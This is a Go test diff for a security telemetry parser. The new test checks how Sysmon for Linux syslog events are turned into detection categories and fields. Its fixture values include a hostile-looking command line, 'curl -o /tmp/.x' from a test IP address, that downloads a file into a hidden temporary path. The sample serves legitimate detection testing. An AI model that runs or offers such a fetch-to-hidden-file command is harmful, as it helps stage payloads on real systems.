@@ -36,3 +36,41 @@ func TestSysmonLinuxSyslog(t *testing.T) {
 	eq(t, "Fields[Provider_Name]", e.Field("Provider_Name"), "Linux-Sysmon")
 	eq(t, "Fields[SystemTime]", e.Field("SystemTime"), "2021-10-19T19:53:27.539545000Z")
 }
+
+// TestSysmonLinuxActivity reads Sysmon for Linux's network (3), file
+// create (11), file delete (23) and exit (5) events from syslog as the
+// categories and fields the tables and rules read.
+func TestSysmonLinuxActivity(t *testing.T) {
+	evs, errs, format := openAll(t, "testdata/sysmon-linux/activity.syslog")
+	eq(t, "format", format, FormatSysmonLinuxSyslog)
+	if len(evs) != 5 || len(errs) != 0 {
+		t.Fatalf("got %d events, errors %v; want 5", len(evs), errs)
+	}
+	want := []struct {
+		eid      int
+		kind     telemetry.Kind
+		category string
+		field    string
+		value    string
+	}{
+		{1, telemetry.KindExec, "process_creation", "CommandLine", "curl -o /tmp/.x http://198.51.100.20/x"},
+		{3, telemetry.KindOther, "network_connection", "DestinationIp", "198.51.100.20"},
+		{11, telemetry.KindOther, "file_event", "TargetFilename", "/tmp/.x"},
+		{23, telemetry.KindOther, "file_delete", "TargetFilename", "/tmp/curl.tmp"},
+		{5, telemetry.KindExit, "process_termination", "Image", "/usr/bin/curl"},
+	}
+	for i, w := range want {
+		e := evs[i]
+		eq(t, "EventID", e.EventID, w.eid)
+		eq(t, "source", e.Source, telemetry.SourceSysmonLinux)
+		eq(t, "kind", e.Kind, w.kind)
+		eq(t, "category", e.Category, w.category)
+		eq(t, "PID", e.PID, 4100)
+		eq(t, "ProcessGUID", e.ProcessGUID, "{6d1b1e1a-3a10-6570-1c5e-3b8a0f550000}")
+		eq(t, "Path", e.Path, "/usr/bin/curl")
+		eq(t, "Host", e.Host, "web2")
+		eq(t, "Fields["+w.field+"]", e.Field(w.field), w.value)
+	}
+	eq(t, "connect DestinationPort", evs[1].Field("DestinationPort"), "80")
+	eq(t, "connect time (UtcTime)", evs[1].Time, time.Date(2023, 11, 14, 22, 20, 0, 250e6, time.UTC))
+}
